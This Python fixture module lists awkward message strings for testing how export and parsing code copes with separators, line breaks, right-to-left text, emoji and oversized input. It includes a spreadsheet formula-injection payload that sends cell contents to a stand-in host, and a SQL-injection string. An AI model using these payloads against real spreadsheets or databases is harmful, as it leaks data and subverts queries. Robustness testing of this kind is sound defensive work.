"""Text that real exports carry and that careless readers break on; one inbound message in about fifty is one of these.

Quotes, separators and line breaks inside a field, spreadsheet formulas, writing from right to left, emoji, very long
messages, and messages that look like data of another kind.
"""

from __future__ import annotations

AWKWARD = (
    '=HYPERLINK("https://prize.example/?c="&A1,"Claim your voucher")',
    "=1+1",
    "+44 7700 900123 is my new number",
    "-2 for the music on your hotline",
    "@SUM(A1:A9)",
    'She said "fill it in, now", so I did',
    "Name;Street;Town\tPostcode,Country",
    'First line,\nsecond line with "quotes"\n\n- a list\n- of two',
    "Windows line\r\nbreak in the middle",
    '"',
    "\ttabs and spaces before and after  ",
    "مرحبا، وصلتني رسالة عن المسح. هل هي حقيقية؟",
    "שלום, מתי מתפרסמים הנתונים הבאים? תודה!",
    "Mixed: السؤال رقم 7 (page 3) עמוד",
    "📊📈 wow 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇮🇪 ❤️‍🔥",
    "人口の統計はどこで見られますか。",
    "Zalgo t̶̢̛e̴͖͝x̵̲̏t and a zero\u200bwidth space",
    "NULL",
    "' OR 1=1; --",
    "<b>bold?</b> &amp; {{name}} %s ${HOME}",
    "2026-02-30 25:61:00",
    "I have lived here for forty years, and I want to explain this properly, as nobody ever listens. " * 20 + "Bye.",
    "ha" * 1200,
    "Dear sir or madam,\n\n" + "\n".join(f"{n}. Point number {n}, with a comma and a “quote”." for n in range(1, 41)),
)
